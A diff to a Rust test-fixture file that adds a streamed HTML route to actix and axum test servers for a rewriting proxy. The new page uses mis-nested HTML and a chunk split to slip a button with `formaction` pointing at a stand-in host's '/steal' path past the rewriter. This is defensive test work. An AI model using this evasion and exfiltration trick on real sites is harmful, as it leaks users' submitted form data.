@@ -9,7 +9,8 @@
 //! - `/d/whoami` (any method): `started=1` when the request's session is the started one;
 //! - `POST /d/redirect`: `303` to `/d/page?from=post` (a handler's `see_other`; the app's
 //!   plain redirect through the proxy);
-//! - `GET /d/away`: `302` to another site.
+//! - `GET /d/away`: `302` to another site;
+//! - `GET /d/streamed`: [`STREAMED_PAGE`] in two chunks and no length (rewritten as a stream).
 
 use std::{net::SocketAddr, sync::mpsc, thread};
 
@@ -25,6 +26,29 @@ pub const PAGE: &str = r#"<!doctype html><html><head><title>door</title></head><
 <a id="pinging" href="/d/page" ping="https://other.example/ping">pinging</a>
 <img id="img" src="https://other.example/i.png" referrerpolicy="unsafe-url">
 </body></html>"#;
+
+/// A page a browser builds the button into the form after `</form>` (the `<b>` the input makes
+/// again inside the form stays open), served in two chunks, cut at [`STREAMED_CUT`]: a stream,
+/// which the rewriter cannot read ahead.
+pub const STREAMED_PAGE: &str = r#"<!doctype html><html><body><form method="post" action="/d/whoami"><p><b>y</p><input name="a"></form><button id="go" formaction="https://other.example/steal">go</button></body></html>"#;
+pub const STREAMED_CUT: usize = 90;
+
+/// [`STREAMED_PAGE`]'s two chunks, as a body stream.
+fn streamed_chunks()
+-> futures_util::stream::Iter<std::array::IntoIter<Result<bytes::Bytes, std::io::Error>, 2>> {
+    let (first, second) = STREAMED_PAGE.split_at(STREAMED_CUT);
+    futures_util::stream::iter([
+        Ok(bytes::Bytes::from_static(first.as_bytes())),
+        Ok(bytes::Bytes::from_static(second.as_bytes())),
+    ])
+}
+
+/// [`STREAMED_PAGE`] as an actix response of unknown length.
+fn streamed() -> actix_web::HttpResponse {
+    actix_web::HttpResponse::Ok()
+        .content_type("text/html; charset=utf-8")
+        .streaming(streamed_chunks())
+}
 
 /// Which door.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -116,6 +140,7 @@ mod actix_door {
                         .to(|s: Session| async move { s.see_other("/d/page?from=post").await }),
                 )
                 .route("/d/away", web::get().to(|| async { away() }))
+                .route("/d/streamed", web::get().to(|| async { super::streamed() }))
         }))
     }
 
@@ -182,6 +207,15 @@ mod axum_door {
                 "/d/away",
                 get(|| async {
                     (StatusCode::FOUND, [("location", "https://other.example/x")]).into_response()
+                }),
+            )
+            .route(
+                "/d/streamed",
+                get(|| async {
+                    (
+                        [("content-type", "text/html; charset=utf-8")],
+                        axum::body::Body::from_stream(super::streamed_chunks()),
+                    )
                 }),
             )
             .layer(layer);
@@ -260,6 +294,7 @@ mod cookie_app {
                             .finish()
                     }),
                 )
+                .route("/d/streamed", web::get().to(|| async { super::streamed() }))
         }))
     }
 }
